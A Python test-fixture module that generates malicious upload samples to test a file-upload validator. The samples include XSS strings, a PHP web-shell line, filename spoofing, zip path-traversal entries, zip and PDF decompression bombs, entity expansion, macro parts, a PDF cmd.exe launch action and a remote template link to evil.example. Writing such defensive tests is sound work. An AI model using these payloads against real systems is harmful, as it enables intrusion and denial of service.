"""Hostile files made in the test: (what, name, bytes, the reason that must be said). Large ones are made when asked for."""

import io
import stat
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name

from mingtang.forms.uploads import ERR_DANGER, ERR_EMPTY, ERR_LOCKED, ERR_SIZE, ERR_TYPE
from tests.forms import samples
from tests.forms.samples import compound, image, package, pdf, png_claiming, sheet, with_parts, word

HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
EXE = b"MZ" + bytes(200)
CLASS = bytes.fromhex("CAFEBABE00000034") + bytes(40)
RTLO = "\u202e"


def named():
    """Wrong by name, or by content under a right name."""
    return [
        ("empty", "a.pdf", b"", ERR_EMPTY),
        ("too large", "a.txt", lambda: b"a" * (20 * 1024 * 1024 + 1), ERR_SIZE.format(n=20)),
        ("program", "a.exe", EXE, ERR_TYPE),
        ("program called pdf", "a.pdf", EXE, ERR_TYPE),
        ("program called txt", "a.txt", EXE, ERR_TYPE),
        ("pdf called exe", "a.pdf.exe", pdf(), ERR_TYPE),
        ("extension hidden by direction", f"附件{RTLO}fdp.exe", pdf(), ERR_TYPE),
        ("extension cut by NUL", "a.exe\x00.html", pdf(), ERR_TYPE),
        ("trailing dot", "a.exe.", pdf(), ERR_TYPE),
        ("no extension", "pdf", pdf(), ERR_TYPE),
        ("alternate stream", "a.pdf:b.exe", pdf(), ERR_TYPE),
        ("html", "a.html", HTML, ERR_TYPE),
        ("html called jpg", "a.jpg", HTML, ERR_TYPE),
        ("html called txt", "a.txt", HTML, ERR_DANGER),
        ("svg", "a.svg", SVG, ERR_TYPE),
        ("svg called png", "a.png", SVG, ERR_TYPE),
        ("svg called txt", "a.txt", SVG, ERR_DANGER),
        ("script in a text", "a.txt", "说明 <ScRiPt >alert(1)</script>".encode(), ERR_DANGER),
        ("script in UTF-16", "a.txt", "<script>alert(1)</script>".encode("utf-16"), ERR_DANGER),
        ("script in UTF-7", "a.txt", b"+ADw-script+AD4-alert(1)", ERR_DANGER),
        ("php called txt", "a.txt", b"<?php system($_GET[0]);", ERR_DANGER),
        ("class file", "a.txt", CLASS, ERR_TYPE),
        ("gzip called docx", "a.docx", bytes.fromhex("1F8B0800") + bytes(30), ERR_TYPE),
        ("rar called docx", "a.docx", b"Rar!\x1a\x07\x01\x00" + bytes(30), ERR_TYPE),
        ("gif", "a.gif", b"GIF89a" + bytes(30), ERR_TYPE),
        ("gif called png", "a.png", b"GIF89a" + bytes(30), ERR_TYPE),
        ("rtf called doc", "a.doc", b"{\\rtf1\\ansi}", ERR_TYPE),
        ("text called pdf", "a.pdf", b"hello", ERR_TYPE),
    ]


def pictures():
    return [
        ("pixel flood", "a.png", png_claiming(50_000, 50_000), ERR_DANGER),
        ("pixel flood under the library's limit", "a.png", png_claiming(9_000, 9_000), ERR_DANGER),
        ("picture cut off", "a.png", image()[:200], ERR_TYPE),
        ("only a signature", "a.jpg", b"\xff\xd8\xff\xe0", ERR_TYPE),
        ("html behind png", "a.png", image() + HTML, ERR_DANGER),
        ("html in a jpeg comment", "a.jpg", _jpeg_comment(HTML), ERR_DANGER),
        ("svg behind jpeg", "a.jpg", image("JPEG") + SVG, ERR_DANGER),
        ("zip behind png", "a.png", image() + package({"a.exe": EXE}), ERR_DANGER),
        ("pdf inside png", "a.png", image()[:8] + b"%PDF-1.7" + image()[8:], ERR_DANGER),
    ]


def _jpeg_comment(body):
    data = image("JPEG")
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(body) + 2) + body + data[2:]


def archives():
    return [
        ("plain zip called docx", "a.docx", package({"a.txt": b"x"}), ERR_TYPE),
        ("zip", "a.zip", package({"a.txt": b"x"}), ERR_TYPE),
        ("jar called docx", "a.docx", package({"META-INF/MANIFEST.MF": b"x", "A.txt": CLASS}), ERR_TYPE),
        ("jar inside docx", "a.docx", with_parts(word(), **{"META-INF__MANIFEST___MF": b"x"}), ERR_DANGER),
        ("class inside docx", "a.docx", with_parts(word(), A___class=CLASS), ERR_DANGER),
        ("apk called ofd", "a.ofd", package({"AndroidManifest.xml": b"x", "OFD.xml": b"<a/>"}), ERR_DANGER),
        ("presentation", "a.docx", package({"[Content_Types].xml": b"<a/>", "ppt/presentation.xml": b"<a/>"}), ERR_TYPE),
        ("word and sheet in one", "a.docx", package(samples.unpacked(word()) | samples.unpacked(sheet())), ERR_DANGER),
        ("macros", "a.docx", with_parts(word(), word__vbaProject___bin=b"x"), ERR_DANGER),
        ("macros in capitals", "a.xlsx", with_parts(sheet(), xl__VBAPROJECT___BIN=b"x"), ERR_DANGER),
        ("macros under another name", "a.docx", _content_type("application/vnd.ms-office.vbaProject"), ERR_DANGER),
        ("docm called docx", "a.docx", _content_type("application/vnd.ms-word.document.macroEnabled.main+xml"), ERR_DANGER),
        ("excel 4 macro sheet", "a.xlsx", with_parts(sheet(), xl__macrosheets__s1___xml=b"<a/>"), ERR_DANGER),
        ("activex", "a.docx", with_parts(word(), word__activeX__a1___xml=b"<a/>"), ERR_DANGER),
        ("program inside", "a.docx", with_parts(word(), word__media__a___exe=EXE), ERR_DANGER),
        ("template from elsewhere", "a.docx", _relation("attachedTemplate"), ERR_DANGER),
        ("object from elsewhere", "a.docx", _relation("oleObject"), ERR_DANGER),
        ("dynamic data exchange", "a.docx", with_parts(word(), word__a___xml=b'<w:instrText xml:space="preserve"> DDEAUTO c:\\x'), ERR_DANGER),
        ("entities", "a.docx", with_parts(word(), word__a___xml=_laughs()), ERR_DANGER),
        ("entities in UTF-16", "a.docx", with_parts(word(), word__a___xml=_laughs().decode().encode("utf-16")), ERR_DANGER),
        ("entities in ofd", "a.ofd", with_parts(samples.ofd(), Doc_0__x___xml=_laughs()), ERR_DANGER),
        ("path upwards", "a.docx", package(samples.unpacked(word()) | {"../../etc/cron.d/x": b"x"}), ERR_DANGER),
        ("absolute path", "a.docx", package(samples.unpacked(word()) | {"/etc/passwd": b"x"}), ERR_DANGER),
        ("backslash path", "a.docx", package(samples.unpacked(word()) | {"..\\x": b"x"}), ERR_DANGER),
        ("direction override in an entry", "a.docx", package(samples.unpacked(word()) | {f"word/{RTLO}gnp.exe": b"x"}), ERR_DANGER),
        ("link", "a.docx", package(samples.unpacked(word()), external_attr=(stat.S_IFLNK | 0o777) << 16), ERR_DANGER),
        ("password of a docx", "a.docx", _flag(word(), 0x1), ERR_LOCKED),
        ("wrong checksum", "a.docx", _wrong_checksum(), ERR_TYPE),
        ("archive cut off", "a.docx", word()[:-30], ERR_TYPE),
        ("twin entries", "a.docx", _twins(), ERR_DANGER),
        ("entries that share bytes", "a.docx", _sharing(), ERR_DANGER),
        ("too many entries", "a.docx", lambda: package({f"word/{n}": b"" for n in range(3001)}), ERR_DANGER),
        ("bomb", "a.docx", lambda: with_parts(word(), word__a___xml=bytes(65_000_000)), ERR_DANGER),
        ("bomb in pieces", "a.xlsx", lambda: package(samples.unpacked(sheet()) | {f"xl/{n}.xml": bytes(30_000_000) for n in range(7)}), ERR_DANGER),
        ("bomb that lies of its size", "a.docx", _liar, ERR_TYPE),
        ("something before the archive's directory", "a.docx", _gap(word()), ERR_DANGER),
        ("something behind the archive", "a.docx", word() + HTML, ERR_DANGER),
    ]  # fmt: skip


def _laughs():
    return b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'


def _content_type(kind):
    types = samples.unpacked(word())["[Content_Types].xml"]
    more = types.replace(
        b"</Types>", f'<Override PartName="/word/a.bin" ContentType="{kind}"/></Types>'.encode()
    )
    return package(samples.unpacked(word()) | {"[Content_Types].xml": more})


def _relation(kind):
    link = f'<Relationships><Relationship Id="r1" Type="http://x/{kind}" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    return package(samples.unpacked(word()) | {"word/_rels/settings.xml.rels": link.encode()})


def _flag(data, flag):
    """The archive with a general-purpose flag set on every entry of its directory."""
    changed = bytearray(data)
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        changed[at + 8] |= flag
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(changed)


def _wrong_checksum():
    data = word()
    changed = bytearray(data)
    at = data.find(b"PK\x01\x02")
    changed[at + 16] ^= 0xFF
    return bytes(changed)


def _twins():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, body in samples.unpacked(word()).items():
            archive.writestr(name, body)
        archive.writestr("word/DOCUMENT.xml", b"<other/>")
    return out.getvalue()


def _sharing():
    """Two directory entries for the same compressed bytes."""
    data = word()
    start = data.find(b"PK\x01\x02")
    end = data.rfind(b"PK\x05\x06")
    length = 46 + sum(struct.unpack_from("<HHH", data, start + 28))
    twin = bytearray(data[start : start + length])
    twin[46] = ord("X")
    _, a, b, n, _, size, offset, comment = struct.unpack("<4sHHHHIIH", data[end : end + 22])
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", a, b, n + 1, n + 1, size + length, offset, comment)
    return data[:end] + bytes(twin) + tail


def _liar():
    """65 MB of zeros whose directory entry says 10 bytes."""
    data = with_parts(word(), word__a___xml=bytes(65_000_000))
    changed = bytearray(data)
    at = data.find(b"word/a.xml", data.find(b"PK\x01\x02")) - 46
    struct.pack_into("<I", changed, at + 24, 10)
    return bytes(changed)


def _gap(data):
    """Bytes that no zip reader sees, between the entries and their directory."""
    start = data.find(b"PK\x01\x02")
    return data[:start] + HTML + data[start:]


def old_office():
    return [
        ("macros of a doc", "a.doc", compound({"WordDocument": samples.FIB, "VBA": b"x"}), ERR_DANGER),
        (
            "macros of an xls",
            "a.xls",
            compound({"Workbook": samples.BOOK, "_VBA_PROJECT_CUR": b"x"}),
            ERR_DANGER,
        ),
        ("old excel 4 macro sheet", "a.xls", compound({"Workbook": samples.BOOK_MACRO_SHEET}), ERR_DANGER),
        (
            "packed program",
            "a.doc",
            compound({"WordDocument": samples.FIB, "\x01Ole10Native": EXE}),
            ERR_DANGER,
        ),
        ("locked doc", "a.doc", compound({"WordDocument": samples.FIB_LOCKED}), ERR_LOCKED),
        ("locked xls", "a.et", compound({"Workbook": samples.BOOK_LOCKED}), ERR_LOCKED),
        ("locked docx", "a.docx", compound({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}), ERR_LOCKED),
        ("installer", "a.doc", compound({"Property": b"x"}), ERR_TYPE),
        ("only a compound signature", "a.doc", compound({"WordDocument": b""})[:8], ERR_TYPE),
        ("directory that runs in a circle", "a.doc", _circle(), ERR_TYPE),
        (
            "random behind the header",
            "a.xls",
            compound({"Workbook": samples.BOOK})[:512] + bytes(range(256)) * 40,
            ERR_TYPE,
        ),
    ]


def _circle():
    data = bytearray(compound({"Nothing": b"x"}))
    struct.pack_into("<I", data, 512 + 4, 1)  # sector 1, the directory, says that it follows itself
    return bytes(data)


def pdfs():
    return [
        ("script on opening", "a.pdf", pdf(_script), ERR_DANGER),
        ("script in an object stream", "a.pdf", pdf(_script, object_stream_mode=pikepdf.ObjectStreamMode.generate), ERR_DANGER),
        ("script with its name escaped", "a.pdf", _escaped(), ERR_DANGER),
        ("launch", "a.pdf", pdf(_launch), ERR_DANGER),
        ("attachment", "a.pdf", pdf(_attach), ERR_DANGER),
        ("action in a stream's dictionary", "a.pdf", pdf(_in_stream), ERR_DANGER),
        ("password of a pdf", "a.pdf", pdf(encryption=pikepdf.Encryption(user="u", owner="o")), ERR_LOCKED),
        ("owner's password only", "a.pdf", pdf(encryption=pikepdf.Encryption(user="", owner="o")), ERR_LOCKED),
        ("only a header", "a.pdf", b"%PDF-1.7\n", ERR_TYPE),
        ("header and noise", "a.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 50, ERR_TYPE),
        ("html in front of the pages", "a.pdf", b"%PDF-1.7\n" + HTML + pdf(), ERR_DANGER),
        ("html behind the end", "a.pdf", pdf() + HTML, ERR_DANGER),
        ("zip behind the end", "a.pdf", pdf() + package({"a.exe": EXE}), ERR_DANGER),
        ("object-stream bomb", "a.pdf", _pdf_bomb, ERR_DANGER),
    ]  # fmt: skip


def _script(made):
    made.Root.OpenAction = made.make_indirect(Dictionary(S=Name.JavaScript, JS="app.alert(1)"))


def _escaped():
    return pdf(_script).replace(b"/JavaScript", b"/Java#53cript")


def _launch(made):
    made.pages[0].Annots = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.Link, A=Dictionary(S=Name.Launch, F="cmd.exe"))]
    )


def _attach(made):
    made.attachments["a.exe"] = pikepdf.AttachedFileSpec(made, EXE, filename="a.exe")


def _in_stream(made):
    made.Root.Odd = made.make_stream(b"x", Action=Dictionary(S=Name.JavaScript))


def _pdf_bomb(megabytes=2000):
    """A PDF whose object stream, needed to show its one page, expands to `megabytes`."""
    blank, packer = b" " * 1_000_000, zlib.compressobj(9)
    first = packer.compress(b"5 0 " + blank) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(blank) + packer.flush(zlib.Z_FULL_FLUSH)
    body = first + block * (megabytes - 1) + packer.flush()
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources 5 0 R>>",
        b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(body), body),
    ]
    out, places = b"%PDF-1.5\n", [b"\0\0\0\0\0\xff\xff"]
    for number, text in enumerate(objects, 1):
        places.append(struct.pack(">BIH", 1, len(out), 0))
        out += b"%d 0 obj%s endobj\n" % (number, text)
    table = b"".join([*places, struct.pack(">BIH", 2, 4, 0), struct.pack(">BIH", 1, len(out), 0)])
    about = b"<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length %d>>" % len(table)
    return out + b"6 0 obj%sstream\n%s\nendstream endobj\nstartxref\n%d\n%%%%EOF" % (about, table, len(out))


def content(file):
    """The bytes of one file of the list."""
    return file[2]() if callable(file[2]) else file[2]


def every():
    return [*named(), *pictures(), *archives(), *old_office(), *pdfs()]
